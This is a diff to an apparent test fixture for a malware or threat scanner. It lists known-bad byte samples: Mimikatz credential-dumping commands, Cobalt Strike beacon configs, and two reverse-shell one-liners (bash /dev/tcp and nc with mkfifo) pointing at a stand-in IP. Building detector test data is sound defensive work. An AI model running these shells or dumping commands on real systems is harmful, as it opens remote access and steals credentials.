@@ -78,7 +78,7 @@ BAD: dict[str, list[bytes]] = {
         PE + join("sekurlsa", "::logonpasswords") + b"\0" + join("gentil", "kiwi"),
         PE + join("lsadump", "::sam").decode().encode("utf-16-le") + b"\0\0" + join("kerberos", "::golden"),
     ],
-    "cobalt_strike_beacon_config": [beacon(0), beacon(0x69), beacon(0x2E)],
+    "cobalt_strike_beacon_config": [beacon(0x69), beacon(0x2E)],
     "reverse_shell_one_liner": [
         join("#!/bin/sh\nbash -i >& /dev/", "tcp/203.0.113.4/4444 0>&1\n"),
         join("rm /tmp/f; mk", "fifo /tmp/f; cat /tmp/f | /bin/", "sh -i 2>&1 | nc 203.0.113.4 4444 > /tmp/f"),
